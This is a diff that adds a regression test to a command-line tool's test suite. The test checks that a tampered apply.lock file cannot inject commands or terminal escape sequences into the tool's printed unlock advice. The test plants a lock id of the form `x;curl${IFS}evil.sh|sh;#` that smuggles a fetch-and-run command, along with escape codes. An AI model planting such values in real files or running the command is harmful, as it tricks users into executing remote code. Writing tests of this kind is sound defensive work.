@@ -3,6 +3,7 @@ error's unlock command, apply progress, Ctrl-C during apply, and colour only on 
 
 from __future__ import annotations
 
+import json
 import os
 import pty
 import re
@@ -83,6 +84,22 @@ def test_lock_error_gives_the_exact_unlock_command(qs, tmp_path, monkeypatch):
         args = shlex.split(command.group(1))[1:]
         assert cli(*args).exit_code == 0
         assert cli("apply", qs, "--auto-approve").exit_code == 0
+
+
+def test_a_lock_naming_a_command_as_its_id_is_not_suggested_to_run(qs):
+    """A lock file is only a file (.reconcile/apply.lock can come with a pull request; a bucket's lock object is
+    written by whoever may write there): its id `x;curl${IFS}evil.sh|sh;#` was printed into the advice to run
+    `reconcile unlock x;curl${IFS}evil.sh|sh;# --dir .`, and its escape sequences reached the terminal. An id this
+    tool could not have written makes the lock a garbled one (broken by the digest id, as an empty lock is)."""
+    (qs / ".reconcile").mkdir()
+    (qs / ".reconcile" / "apply.lock").write_text(json.dumps(
+        {"id": "x;curl${IFS}evil.sh|sh;#\x1b]0;pwned\x07", "pid": 1, "host": "elsewhere\x1b[2K", "since": "now"}))
+    r = cli("apply", qs, "--auto-approve")
+    assert r.exit_code == 1 and "\x1b" not in r.output and "evil" not in r.output, r.output
+    command = re.search(r"`(reconcile unlock [^`]+)`", r.output)
+    assert command and re.fullmatch(r"reconcile unlock garbled-[0-9a-f]{8} --dir \S+", command.group(1)), r.output
+    assert cli(*shlex.split(command.group(1))[1:]).exit_code == 0
+    assert not (qs / ".reconcile" / "apply.lock").exists()
 
 
 def test_apply_prints_the_plan_then_one_line_per_action(qs):
